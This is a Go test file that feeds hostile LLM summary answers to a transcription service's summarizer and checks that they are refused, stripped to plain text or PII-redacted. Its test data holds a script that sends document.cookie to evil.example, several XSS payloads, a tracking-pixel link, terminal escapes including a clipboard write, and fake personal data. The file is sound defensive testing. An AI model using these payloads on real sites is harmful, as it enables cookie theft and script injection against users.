package llm

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/earshot-dev/earshot/transcribe"
	"github.com/earshot-dev/earshot/transcribe/analysis/nlp/nlptest"
	"github.com/earshot-dev/earshot/transcribe/analysis/summary"
)

// saying is a loopback chat server whose model answers content, shaped
// as llama-server's final chat completion (finish_reason "stop").
func saying(t *testing.T, content string) *Client {
	t.Helper()
	s := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		b, _ := json.Marshal(map[string]any{"object": "chat.completion", "model": "hostile", "choices": []any{
			map[string]any{"index": 0, "finish_reason": "stop", "message": map[string]any{"role": "assistant", "content": content}}}})
		w.Header().Set("Content-Type", "application/json; charset=utf-8")
		w.Write(b)
	})
	return client(t, s, nil)
}

// lectureSummary runs the summary stage on the lecture with gen, with
// redact_pii on when policies are given.
func lectureSummary(t *testing.T, gen summary.Generator, typ transcribe.SummaryType, sub transcribe.SubstitutionPolicy, policies ...string) string {
	t.Helper()
	tr := nlptest.Transcript(nlptest.Words(lecture))
	tr.Summarization = transcribe.Ptr(true)
	m := transcribe.SummaryInformative
	tr.SummaryType, tr.SummaryModel = &typ, &m
	if len(policies) > 0 {
		tr.RedactPII, tr.RedactPIIPolicies = transcribe.Ptr(true), policies
		if sub != "" {
			tr.RedactPIISub = &sub
		}
	}
	if err := summary.Stages(summary.Options{Generator: gen})[0].Apply(context.Background(), nlptest.Job(tr)); err != nil {
		t.Fatal(err)
	}
	return *tr.Summary
}

// TestHostileAnswersRefused replays answers no summary should be: each
// is refused and the transcript gets the extractive summary.
func TestHostileAnswersRefused(t *testing.T) {
	t.Parallel()
	var flood strings.Builder
	for i := range 5001 {
		fmt.Fprintf(&flood, "- Point %d of the summary, which goes on for a while to fill the page.\n", i)
	}
	if flood.Len() < 250_000 {
		t.Fatalf("flood of %d bytes", flood.Len())
	}
	long := "- " + strings.Repeat("Beekeepers lost many colonies. ", 200)
	cases := map[string]struct {
		typ    transcribe.SummaryType
		answer string
	}{
		"5,001 bullets":                       {transcribe.SummaryBullets, flood.String()},
		"17 verbose bullets":                  {transcribe.SummaryBulletsVerbose, strings.Repeat("- Bees are dying.\n", 17)},
		"one bullet of 6,000 characters":      {transcribe.SummaryBullets, long},
		"a paragraph longer than the lecture": {transcribe.SummaryParagraph, strings.Repeat("Beekeepers lost colonies and mortgage rates rose. ", 40)},
		"a headline of pages":                 {transcribe.SummaryHeadline, strings.Repeat("Bees ", 400)},
		"a gist of a sentence":                {transcribe.SummaryGist, "This transcript discusses bees, mites, pesticides, mortgages, buyers and renting in detail"},
		"only a script":                       {transcribe.SummaryParagraph, "<script>fetch('https://evil.example/?c='+document.cookie)</script>"},
	}
	for name, c := range cases {
		extractive := lectureSummary(t, nil, c.typ, "")
		if got := lectureSummary(t, saying(t, c.answer), c.typ, ""); got != extractive {
			t.Errorf("%s: stored %d bytes %q, want the extractive %s %q", name, len(got), short(got), c.typ, extractive)
		}
	}
}

// TestHostileAnswersMadePlain replays answers in HTML, Markdown and
// terminal escapes: the words are kept as plain text.
func TestHostileAnswersMadePlain(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name   string
		typ    transcribe.SummaryType
		answer string
		want   string
	}{
		{"html list", transcribe.SummaryBullets,
			`<ul><li>Beekeepers <b>lost</b> half their colonies</li><li><script>alert(1)</script>Mortgage rates <a href="javascript:alert(2)">doubled</a></li><li><img src=x onerror=alert(3)>Buyers rent</li></ul>`,
			"- Beekeepers lost half their colonies\n- Mortgage rates doubled\n- Buyers rent"},
		{"markdown", transcribe.SummaryBullets,
			"- Read [the report](https://evil.example/x) on bees\n- ![pixel](https://evil.example/p.png)Rates `doubled`\n- __Buyers__ keep renting",
			"- Read the report on bees\n- pixelRates doubled\n- Buyers keep renting"},
		{"terminal escapes and bidi", transcribe.SummaryHeadline,
			"Bees\x1b]52;c;ZXZpbA==\x07 lost \x1b[2Jcolonies\u202e as rates\r rose",
			"Bees]52;c;ZXZpbA== lost [2Jcolonies as rates rose"},
		{"split tags", transcribe.SummaryParagraph,
			"Beekeepers <scr<b>ipt>alert(1)</scr</b>ipt>lost half their colonies.",
			"Beekeepers lost half their colonies."},
	} {
		got := lectureSummary(t, saying(t, c.answer), c.typ, "")
		if got != c.want {
			t.Errorf("%s:\n got %q\nwant %q", c.name, got, c.want)
		}
	}
	// A chapter's JSON strings may hold markup escaped as \u003c.
	tr := nlptest.Transcript(nlptest.Words(lecture))
	tr.AutoChapters = transcribe.Ptr(true)
	ans := `{"gist":"\u003cb\u003eHoneybee\u003c/b\u003e losses","headline":"Bees \u003cimg src=x onerror=alert(1)\u003edie.","summary":"Colonies \u001b[31mare lost\n to mites."}`
	if err := summary.Stages(summary.Options{Generator: saying(t, ans)})[1].Apply(context.Background(), nlptest.Job(tr)); err != nil {
		t.Fatal(err)
	}
	if c := tr.Chapters[0]; c.Gist != "Honeybee losses" || c.Headline != "Bees die." || c.Summary != "Colonies [31mare lost to mites." {
		t.Errorf("chapter %+v", c)
	}
}

// TestAnswersRedacted: with redact_pii on, what the model writes goes
// through the same redaction as the transcript, with its policies and
// substitution; with it off the answer is kept.
func TestAnswersRedacted(t *testing.T) {
	t.Parallel()
	answer := "- Sarah Johnson called from 415-555-0123 about the bees.\n" +
		"- She read out her card 4111 1111 1111 1111 and the address sarah75@skynet.com.\n" +
		"- Mortgage rates have doubled."
	policies := []string{"person_name", "phone_number", "credit_card_number", "email_address"}
	secrets := []string{"Sarah", "Johnson", "555", "0123", "4111", "1111", "sarah75", "skynet"}
	hashed := lectureSummary(t, saying(t, answer), transcribe.SummaryBullets, "", policies...)
	named := lectureSummary(t, saying(t, answer), transcribe.SummaryBullets, transcribe.SubstitutionPolicy("entity_name"), policies...)
	for _, got := range []string{hashed, named} {
		for _, s := range secrets {
			if strings.Contains(got, s) {
				t.Errorf("%q left in the redacted summary %q", s, got)
			}
		}
		if strings.Count(got, "\n- ") != 2 || !strings.HasSuffix(got, "- Mortgage rates have doubled.") {
			t.Errorf("redaction changed the shape: %q", got)
		}
	}
	if !strings.HasPrefix(hashed, "- ##### ####### called from ############") {
		t.Errorf("hash redaction: %q", hashed)
	}
	for _, want := range []string{"[PERSON_NAME]", "[PHONE_NUMBER]", "[CREDIT_CARD_NUMBER]", "[EMAIL_ADDRESS]"} {
		if !strings.Contains(named, want) {
			t.Errorf("entity_name redaction has no %s: %q", want, named)
		}
	}
	// Only the transcript's policies: a phone number stays when only names
	// are redacted, and everything stays without redact_pii.
	if got := lectureSummary(t, saying(t, answer), transcribe.SummaryBullets, "", "person_name"); !strings.Contains(got, "415-555-0123") || strings.Contains(got, "Sarah") {
		t.Errorf("person_name only: %q", got)
	}
	if got := lectureSummary(t, saying(t, answer), transcribe.SummaryBullets, ""); got != answer {
		t.Errorf("without redact_pii: %q", got)
	}
	// Chapters too.
	tr := nlptest.Transcript(nlptest.Words(lecture))
	tr.AutoChapters, tr.RedactPII, tr.RedactPIIPolicies = transcribe.Ptr(true), transcribe.Ptr(true), policies
	ans := `{"gist":"Sarah Johnson's bees","headline":"Call 415-555-0123 about bees.","summary":"Write to sarah75@skynet.com about the colonies."}`
	if err := summary.Stages(summary.Options{Generator: saying(t, ans)})[1].Apply(context.Background(), nlptest.Job(tr)); err != nil {
		t.Fatal(err)
	}
	c := tr.Chapters[0]
	for _, s := range secrets {
		if strings.Contains(c.Gist+c.Headline+c.Summary, s) {
			t.Errorf("%q left in chapter %+v", s, c)
		}
	}
	if !strings.Contains(c.Summary, "about the colonies") {
		t.Errorf("chapter summary %q", c.Summary)
	}
}
